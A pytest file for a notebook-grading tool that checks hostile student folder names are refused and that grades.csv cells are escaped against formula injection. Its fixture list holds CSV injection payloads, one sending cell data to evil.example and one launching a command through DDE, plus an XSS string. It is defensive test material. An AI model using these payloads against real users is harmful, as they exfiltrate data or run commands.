"""Student ids are data, never patterns, and grades.csv runs no formula.

Unit tests of gdgrade/untrusted/ids.py, then a 01-slope class with hostile folder names beside `mallet`, whose
submission is flagged for review: the names are refused with their reasons, mallet keeps its grade
and its flag, the run, grades.csv and the report complete, and no cell of grades.csv is a formula.
"""

from __future__ import annotations

import csv
import os

import nbformat
import pytest
from nbgrader.api import Gradebook

from coursekit import answered, new_course, read, require_sandbox
from gdgrade import batch
from gdgrade.course import course_api, course_config
from gdgrade.export import Grades, GradedCell, write_csv
from gdgrade.untrusted.ids import csv_safe, id_problem, printable

HOSTILE = ["[m]allet", "*", '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&B3,"grades")',
           "@SUM(1+9)*cmd|' -C calc'!A0", "+1", "-2", " padded", "tab\there", "<img src=x onerror=alert(1)>"]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_folder_names_are_refused_with_a_reason(name: str) -> None:
    """Glob, formula, markup, control and white-space names cannot be student ids."""
    assert id_problem(name)


@pytest.mark.parametrize("name", ["mallet", "ada.lovelace", "s1234567", "anna-maria", "zoë", "li_wei", "o.brien2"])
def test_ordinary_ids_are_accepted(name: str) -> None:
    """Ids as LMSs and universities make them pass."""
    assert id_problem(name) is None


def test_a_name_that_is_not_utf8_is_refused_and_printable() -> None:
    """A folder name with a byte that is not UTF-8 (as os.listdir returns it) is refused and shown as \\xff."""
    name = os.fsdecode(b"bad\xff")
    assert id_problem(name) == "its name is not valid UTF-8"
    assert printable(name) == "bad\\xff"


@pytest.mark.parametrize("cell, safe", [("=1+2", "'=1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("+cmd", "'+cmd"), ("-cmd", "'-cmd"),
                                        ("\tx", "'\tx"), ("7", "7"), ("-0.5", "-0.5"), ("ada", "ada"), ("", "")])
def test_csv_cells_that_would_be_formulas_get_a_quote(cell: str, safe: str) -> None:
    """OWASP's rule: a leading ' for text a spreadsheet would evaluate; numbers stay numbers."""
    assert csv_safe(cell) == safe


def test_write_csv_neutralises_ids_from_the_gradebook_and_leaves_no_temporary_file(tmp_path) -> None:
    """Even ids that reached the gradebook another way are written inert, and a failed write leaves nothing behind."""
    grades = Grades({"a1": [GradedCell("a1", "q", 1.0)]}, ["=cmd()", "ok"], {("=cmd()", "a1"): {("a1", "q"): 1.0}})
    path = write_csv(grades, tmp_path / "grades.csv")
    rows = list(csv.reader(path.open()))
    assert rows[1][0] == "'=cmd()" and rows[1][1] == "1"
    assert [p.name for p in tmp_path.iterdir()] == ["grades.csv"]


@pytest.mark.grading
def test_hostile_folders_never_touch_another_student_or_stop_the_run(tmp_path) -> None:
    """[m]allet, *, formulas and bad bytes are refused; mallet keeps grade and flag; csv and report are whole."""
    require_sandbox()
    root = tmp_path / "course"
    new_course(root, ["01-slope"], with_empty_gradebook=True)
    assert course_api(root).generate_assignment("01-slope", force=True, create=True)["success"]
    released = read(root / "notebooks" / "01-slope" / "01-slope.ipynb")
    solved = answered(released, read(root / "solutions" / "01-slope" / "01-slope.ipynb"))
    submitted = root / "grading" / "submitted"
    for name in ["mallet", *HOSTILE[:4], HOSTILE[-1]]:
        (submitted / name / "01-slope").mkdir(parents=True)
        nbformat.write(solved, str(submitted / name / "01-slope" / "01-slope.ipynb"))
    (submitted / "mallet" / "01-slope" / "notes.txt").write_text("an extra file: flagged for review")
    bad = os.path.join(os.fsencode(submitted), b"bad\xff", b"01-slope")
    os.makedirs(bad)
    nbformat.write(solved, os.fsdecode(os.path.join(bad, b"01-slope.ipynb")))

    run = batch.run(["01-slope"], root=root, workers=2, progress=False)

    refused = {student: reason for student, assignment, reason in run.failures if "refused" in reason}
    assert set(refused) == {*HOSTILE[:4], HOSTILE[-1], "bad\\xff"}, run.failures
    assert run.graded == 1
    with Gradebook(course_config(root).CourseDirectory.db_url) as gradebook:
        assert [s.id for s in gradebook.students] == ["mallet"]
        grades = gradebook.find_submission_notebook("01-slope", "01-slope", "mallet").grades
        assert all(g.needs_manual_grade for g in grades) and sum(g.score for g in grades) == 7
    rows = list(csv.reader((root / "grading" / "grades.csv").open(encoding="utf-8")))
    assert [r[0] for r in rows[1:]] == ["mallet"]
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not list((root / "grading").glob(".grades.*"))
    report = (root / "grading" / "report" / "index.html").read_text()
    assert "bad\\xff" in report and "[m]allet" in report and "<img src=x" not in report
